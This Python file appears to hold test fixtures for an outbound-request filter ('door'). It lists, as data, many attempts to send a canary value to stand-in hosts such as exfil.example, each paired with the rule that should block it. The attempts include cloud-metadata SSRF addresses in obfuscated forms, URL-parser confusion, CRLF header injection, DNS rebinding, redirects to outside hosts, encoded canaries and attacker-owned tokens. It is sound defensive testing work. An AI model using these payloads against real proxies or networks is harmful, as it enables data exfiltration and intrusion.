"""Requests to a tenant's door that must not leave it, as data: what is asked, and which rule denies it.

`mark` is what must not arrive: a random canary, which for some rows is one that the tenant has planted.
"""

import base64
import gzip
import json
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Final
from urllib.parse import quote

from sequester.drill.program import slug
from sequester.loopback import http

HOST: Final = "api.drill.example"
"""Allowed: GET and POST below /v1/."""
BROKERED: Final = "brokered.drill.example"
"""A host whose credential the door owns; /public/* may be got."""
ELSEWHERE: Final = "exfil.example"
URL: Final = f"https://{HOST}/v1/items"
DROPPED: Final = "dropped-headers"
"""What stops a request that goes, without the header that it forged."""
PUBLIC, INSIDE, IMPOSTOR = "127.0.0.1", "127.0.0.2", "127.0.0.3"
"""Three servers of the drill's: the internet, a service that is not public, and one whose certificate is another's."""

Build = Callable[[str], Mapping[str, object]]


@dataclass(frozen=True)
class Fetch:
    """One request. `build` and `reply` are given the mark.

    budget: what the tenant has left, over plenty. names: where a name leads, other than to the public server. detour:
    the network leads elsewhere than to the address that was dialled. planted: the mark is a canary of the tenant's.
    in_answer: the mark is the door's own credential, and must not come back.
    """

    family: str
    name: str
    does: str
    rule: str
    build: Build
    budget: Mapping[str, int] = field(default_factory=dict[str, int])
    names: Mapping[str, Sequence[str]] = field(default_factory=dict[str, Sequence[str]])
    reply: Callable[[str], bytes] | None = None
    detour: bool = False
    planted: bool = False
    in_answer: bool = False

    @property
    def id(self) -> str:
        return slug(f"{self.family} {self.name}")


def _get(url: str, **headers: str) -> dict[str, object]:
    return {"method": "GET", "url": url, "headers": headers}


def _post(body: bytes | str, content_type: str = "application/json", **headers: str) -> dict[str, object]:
    raw = body.encode() if isinstance(body, str) else body
    return {
        "method": "POST",
        "url": URL,
        "headers": {"content-type": content_type, **headers},
        "body_b64": base64.b64encode(raw).decode(),
    }


def _url(name: str, does: str, rule: str, url: str) -> Fetch:
    """`MARK` in the URL stands for the mark."""
    return Fetch("door", name, does, rule, lambda mark: _get(url.replace("MARK", mark)))


def _redirect(name: str, does: str, rule: str, location: str, status: str = "302 Found") -> Fetch:
    def reply(mark: str) -> bytes:
        return http(b"", status, {"Location": location.replace("MARK", mark)})

    return Fetch("door", name, does, rule, lambda _: _get(URL), reply=reply)


def _inside(name: str, does: str, addresses: Sequence[str]) -> Fetch:
    build: Build = lambda mark: _get(f"{URL}?q={mark}")  # noqa: E731
    return Fetch("door", name, does, "resolve.special", build, names={HOST: addresses})


def _planted(name: str, does: str, build: Build, family: str = "door") -> Fetch:
    return Fetch(family, name, does, "inspect.canary", build, planted=True)


DOOR: Final = (
    _url("user information", "an allowed host where the user stands", "url.userinfo", f"https://{HOST}@{ELSEWHERE}/MARK"),
    _url("backslash", "parsers differ on where the host ends", "url.characters", f"https://{ELSEWHERE}\\@{HOST}/MARK"),
    _url("tab in the host", "some parsers drop it", "url.characters", "https://exfil.exam\tple/MARK"),
    _url("line break in the path", "another request in the same connection", "url.characters", f"{URL}\r\nX-A: MARK"),
    _url("plain http", "no TLS, no certificate", "url.scheme", f"http://{HOST}/v1/MARK"),
    _url("websocket", "a channel that stays open", "url.scheme", f"wss://{HOST}/v1/MARK"),
    _url("trailing dots", "two of them: the same name to some", "url.host", f"https://{HOST}../v1/MARK"),
    _url("trailing dot", "a fully qualified name that is not listed", "allow.host", f"https://{ELSEWHERE}./MARK"),
    _url("a bare address", "needs no name", "url.ip_literal", "https://192.0.2.1/MARK"),
    _url("bracketed literal", "an IPv6 address", "url.ip_literal", "https://[2001:db8::1]/MARK"),
    _url("mapped literal", "metadata as IPv6", "url.ip_literal", "https://[::ffff:169.254.169.254]/MARK"),
    _url("octal address", "0251.0376.0251.0376", "url.ip_literal", "https://0251.0376.0251.0376/MARK"),
    _url("hexadecimal address", "0xa9fea9fe", "url.ip_literal", "https://0xa9fea9fe/MARK"),
    _url("full-width address", "digits of another script", "url.ip_literal", "https://１６９.254.169.254/MARK"),
    _url("dot segments, encoded", "climbs out of the allowed path", "url.path", f"https://{HOST}/v1/%2e%2e/admin/MARK"),
    _url("encoded slash", "one segment here, two there", "url.path", f"https://{HOST}/v1/..%2fadmin/MARK"),
    _url("double encoding", "decoded twice by what stands behind", "url.path", f"https://{HOST}/v1/%252e%252e/MARK"),
    _url("broken escape", "read in more than one way", "url.query", f"{URL}?q=%zzMARK"),
    _url("a host that is not listed", "the plain attempt", "allow.host", f"https://{ELSEWHERE}/MARK"),
    _url("below a listed host", "a name that anybody might own", "allow.host", f"https://x.{HOST}/v1/MARK"),
    _url("a listed host as prefix", "a name of the attacker's", "allow.host", f"https://{HOST}.{ELSEWHERE}/v1/MARK"),
    _url("homograph", "a Cyrillic letter", "allow.host", "https://\u0430pi.drill.example/v1/MARK"),
    _url("another port", "another service of an allowed host", "allow.port", f"https://{HOST}:8443/v1/MARK"),
    _url("another path", "a part of the host that is not allowed", "allow.path", f"https://{HOST}/admin/MARK"),
    _url("another query key", "data in a key that nobody expects", "allow.query", f"{URL}?callback=MARK"),
    Fetch("door", "another method", "deletes instead of reading", "allow.method",
          lambda mark: {"method": "DELETE", "url": f"{URL}/{mark}"}),
    Fetch("door", "another content type", "a body that is not expected", "allow.content_type",
          lambda mark: _post(f"<a>{mark}</a>", "text/xml")),
    Fetch("door", "forged header", "a second request inside a header", "request.header",
          lambda mark: _get(URL, **{"x-a": f"b\r\nX-C: {mark}"})),
    Fetch("door", "space before the colon", "a length that only one of two servers reads", "request.header",
          lambda mark: _get(URL, **{"transfer-encoding ": f"chunked, {mark}"})),
    Fetch("door", "forged host", "a front: one name for TLS, another for the server behind", DROPPED,
          lambda mark: _get(URL, host=f"{mark}.{ELSEWHERE}")),
    Fetch("door", "method with a header in it", "a second request inside the method", "request.method",
          lambda mark: {"method": f"GET / HTTP/1.1\r\nX-C: {mark}", "url": URL}),
    Fetch("door", "CONNECT", "a tunnel of its own", "request.method",
          lambda mark: {"method": "CONNECT", "url": f"{URL}?q={mark}"}),
    _redirect("redirect elsewhere", "an allowed host sends it on", "allow.host", f"https://{ELSEWHERE}/MARK"),
    _redirect("redirect to metadata", "an allowed host sends it inside", "url.ip_literal", "https://169.254.169.254/MARK"),
    _redirect("redirect to plain http", "and out of TLS", "url.scheme", f"http://{HOST}/v1/MARK"),
    _redirect("redirect without a scheme", "keeps the scheme, changes the host", "allow.host", f"//{ELSEWHERE}/MARK"),
    _redirect("redirect that keeps the body", "307 to a path that is not allowed", "allow.path",
              f"https://{HOST}/admin/MARK", "307 Temporary Redirect"),
    _inside("name that leads inside", "an allowed name with an address that is not public", [INSIDE]),
    _inside("rebinding", "one public address, and one inside", [PUBLIC, INSIDE]),
    _inside("name that leads inside, mapped", "the same as IPv6", [f"::ffff:{INSIDE}"]),
    Fetch("door", "detour", "the connection ends elsewhere than at the resolved address", "connect.peer",
          lambda mark: _get(f"{URL}?q={mark}"), detour=True),
    Fetch("door", "SNI and certificate differ", "a server that is not the host it is asked for", "connect.tls",
          lambda mark: _get(f"{URL}?q={mark}"), names={HOST: [IMPOSTOR]}),
    Fetch("door", "a drip", "small requests, without end", "budget.requests",
          lambda mark: _get(f"{URL}?q={mark}"), budget={"requests_per_minute": 0}),
    Fetch("door", "a flood", "more bytes than the day has", "budget.bytes_out",
          lambda mark: _post(json.dumps({"a": mark + "x" * 900})), budget={"bytes_out_per_day": 500}),
    _planted("canary in the query", "a planted value", lambda mark: _get(f"{URL}?q={mark}")),
    _planted("canary in a header, hex", "a planted value, encoded",
             lambda mark: _get(URL, **{"x-n": mark.encode().hex()})),
    _planted("canary in JSON, base64", "a planted value, encoded",
             lambda mark: _post(json.dumps({"n": base64.b64encode(mark.encode()).decode()}))),
    _planted("canary in gzip in base64", "a planted value, encoded twice",
             lambda mark: _post(base64.b64encode(gzip.compress(mark.encode(), mtime=0)), "text/plain")),
    _planted("canary split over headers", "a planted value in two halves",
             lambda mark: _get(URL, **{"x-a": mark[:10], "x-b": mark[10:]})),
    _planted("canary backwards", "a planted value, turned round", lambda mark: _post(mark[::-1], "text/plain")),
    Fetch("door", "credential comes back", "an allowed host echoes what the door added", "response.credential",
          lambda _: _get(f"https://{BROKERED}/public/x"), reply=lambda mark: http(mark.encode()), in_answer=True),
)  # fmt: skip

# Built at run time, so that nothing here looks like a key to anyone who scans this file.
_ATTACKERS_KEY: Final = "ghp_" + "a1B2c3D4e5F6" * 3

ALLOWED: Final = (
    Fetch("allowed", "attackers key on an allowed API", "stores data in the attacker's own account at an allowed host",
          DROPPED, lambda mark: _get(URL, authorization=f"Bearer {mark}")),
    Fetch("allowed", "attackers key in another header", "the same, where the header has another name", "inspect.secret",
          lambda mark: _get(f"{URL}?q={mark}", **{"x-account": _ATTACKERS_KEY})),
    Fetch("allowed", "attackers key in the body", "the same, as a field", "inspect.secret",
          lambda mark: _post(json.dumps({"note": mark, "access_token": _ATTACKERS_KEY}))),
    Fetch("allowed", "provider-side fetch", "asks an allowed host to fetch from elsewhere", "allow.query",
          lambda mark: _get(f"{URL}?url={quote(f'https://{ELSEWHERE}/{mark}', safe='')}")),
    _planted("provider-side fetch of a canary", "the same in a key that is allowed",
             lambda mark: _get(f"{URL}?q={quote(f'https://{ELSEWHERE}/{mark}', safe='')}"), "allowed"),
    Fetch("allowed", "presigned URL", "a foreign bucket's own permission to write", "allow.host",
          lambda mark: {"method": "PUT", "url": f"https://loot.s3.drill-attacker.example/{mark}?X-Amz-Signature=0"}),
    Fetch("allowed", "signed query on an allowed host", "another's signature, where no key of ours is needed",
          "allow.query",
          lambda mark: _get(f"{URL}?X-Amz-Credential={mark}&X-Amz-Signature=0")),
)  # fmt: skip

FETCHES: Final[Mapping[str, Fetch]] = {row.id: row for row in (*DOOR, *ALLOWED)}
